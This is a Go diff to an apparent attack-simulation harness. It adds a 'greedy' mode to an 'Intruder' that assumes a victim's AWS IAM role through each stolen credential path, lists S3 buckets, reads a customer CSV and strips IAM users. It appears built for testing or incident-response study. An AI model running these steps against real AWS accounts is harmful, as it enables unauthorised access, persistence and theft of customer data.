@@ -27,6 +27,7 @@ type Intruder struct {
 	quiet  bool
 	extras []func()
 	silent bool
+	greedy bool
 	// Told hears of each move, for the story.
 	Told func(at time.Time, what string, err error)
 	// Made are the users it made.
@@ -172,8 +173,12 @@ func (i *Intruder) assumeRole() {
 	if i.quiet {
 		return
 	}
+	i.assumeWith(i.roads[0])
+}
+
+func (i *Intruder) assumeWith(r road) {
 	arn := "arn:aws:iam::" + i.victim.World.Account() + ":role/" + i.victim.Role
-	out, err := sts.NewFromConfig(i.cfg(i.roads[0])).AssumeRole(i.ctx, &sts.AssumeRoleInput{
+	out, err := sts.NewFromConfig(i.cfg(r)).AssumeRole(i.ctx, &sts.AssumeRoleInput{
 		RoleArn: &arn, RoleSessionName: aws.String("backup"),
 	})
 	i.told("assumes the role "+i.victim.Role, err)
@@ -216,6 +221,9 @@ func (i *Intruder) persist() {
 	i.told("tries "+r.name+": lists the buckets", err)
 	_, err = s3.NewFromConfig(cfg).GetObject(i.ctx, &s3.GetObjectInput{Bucket: &i.victim.Bucket, Key: aws.String("2026/customers-00.csv")})
 	i.told("tries "+r.name+": reads a file", err)
+	if i.greedy && len(i.roads) < 12 {
+		i.assumeWith(r)
+	}
 	for _, user := range append([]string{i.victim.User}, i.Made...) {
 		i.strip(cfg, r, user)
 	}
